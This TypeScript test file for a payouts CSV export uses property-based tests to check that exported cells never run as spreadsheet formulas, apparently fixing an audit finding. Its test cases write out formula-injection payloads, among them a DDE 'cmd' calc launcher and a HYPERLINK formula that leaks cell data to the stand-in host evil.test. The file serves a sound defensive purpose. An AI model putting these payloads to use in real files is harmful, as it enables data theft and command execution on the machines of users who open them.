import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readSources } from '../../scripts/import-graph.ts';
import { column, csvHeader, csvLines, numberColumn } from '../../src/domain/payouts/export/csv.ts';
import { count } from '../setup/counts.ts';

/** Finding 8: however a spreadsheet splits an exported file, no cell of it runs as a formula. */

type Row = { amount: string; texts: (string | null)[] };
const columns = [
  column<Row>('id', () => 'ch_1'),
  numberColumn<Row>('amount', ({ amount }) => amount),
  ...[0, 1, 2].map((i) => column<Row>(`text${i}`, ({ texts }) => texts[i] ?? null)),
];
const write = (rows: Row[]) => csvHeader(columns) + csvLines(columns, rows);

const separators = [',', ';', '\t', '|'];

/** Reads a file as leniently as spreadsheets do: a quote that opens a cell is honored, every other one is text. */
function readCells(file: string, separator: string, { quotes }: { quotes: boolean }): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let i = 0; i < file.length; i++) {
    const character = file[i]!;
    if (isQuoted) {
      if (character !== '"') cell += character;
      else if (file[i + 1] === '"') cell += file[++i];
      else isQuoted = false;
    } else if (quotes && character === '"' && cell === '') isQuoted = true;
    else if (character === separator || character === '\n' || character === '\r') {
      cells.push(cell);
      cell = '';
    } else cell += character;
  }
  return [...cells, cell];
}

/** A line end at the beginning is the file's own, behind a quote that the reader took for an opening one. */
const isFormula = (cell: string) =>
  /^(?:\t|\r(?!\n))/.test(cell) || /^[\p{C}\p{Z}"]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(cell);
const isNumber = (cell: string) => /^-?\d+(?:\.\d+)?$/.test(cell);

function findFormulas(file: string): string[] {
  return separators.flatMap((separator) =>
    [true, false].flatMap((quotes) =>
      readCells(file, separator, { quotes }).filter((cell) => isFormula(cell) && !isNumber(cell)),
    ),
  );
}

/** Texts of the characters that separate, quote, pad and start formulas. */
const hostileText = fc
  .array(
    fc.oneof(
      fc.constantFrom(...'=+-@＝＋－＠﹦﹢﹣﹫'),
      fc.constantFrom(...',;|\t\r\n', '\r\n', '\v', '\u0085', '\u2028'),
      fc.constantFrom('"', '""', "'", ' ', '    ', '\u00a0', '\u200b', '\ufeff', '\u00ad', '\u3000', '\0'),
      fc.constantFrom('x', '1', 'cmd|', '-5', 'é', '茶', '🍵', '\ud800'),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''));
const row = fc.record({
  amount: fc.integer({ min: -99_999, max: 99_999 }).map((minor) => (minor / 100).toFixed(2)),
  texts: fc.array(fc.option(hostileText), { minLength: 3, maxLength: 3 }),
});

describe('an exported file', () => {
  test('has no cell that begins a formula, whatever separates its cells and whether quotes are honored', () => {
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 3 }), (rows) => {
        expect(findFormulas(write(rows))).toEqual([]);
      }),
      { numRuns: count(2_000, 100_000) },
    );
  });

  test.each([
    "x;\"=cmd|' /C calc'!A1;y",
    'x;"=HYPERLINK("http://evil.test/?"&A1);y',
    'x\t"=1+1',
    'x;     =1+1',
    'x;\u00a0=1+1',
    'x;\u200b=1+1',
    'x|=1+1',
    'x,=1+1',
    '"=1+1',
  ])('has no formula of the text %j', (text) => {
    expect(findFormulas(`${text}\r\n`)).not.toEqual([]);
    expect(findFormulas(write([{ amount: '1.00', texts: [text, null, text] }]))).toEqual([]);
  });

  test('keeps negative amounts as numbers, and makes text of everything else in their columns', () => {
    const lines = (amount: string) => csvLines(columns, [{ amount, texts: [] }]);
    expect(lines('-12.50')).toBe('ch_1,-12.50,,,\r\n');
    expect(lines('-12.50+1')).toBe("ch_1,'-12.50+1,,,\r\n");
  });

  test('protects a text of 100,000 separators and spaces in linear time', () => {
    const text = '\t "'.repeat(33_333);
    const start = performance.now();
    csvLines(columns, [{ amount: '1', texts: [text, `${text}=1`, ' '.repeat(100_000)] }]);
    expect(performance.now() - start).toBeLessThan(10_000);
  });

  test('is written by one function alone', () => {
    const writers = [...readSources()]
      .filter(([file, text]) => /^(?:src|schema)\//.test(file) && /\.join\('[,;]'\) \+/.test(text))
      .map(([file]) => file);
    expect(writers).toEqual(['src/domain/payouts/export/csv.ts']);
  });
});
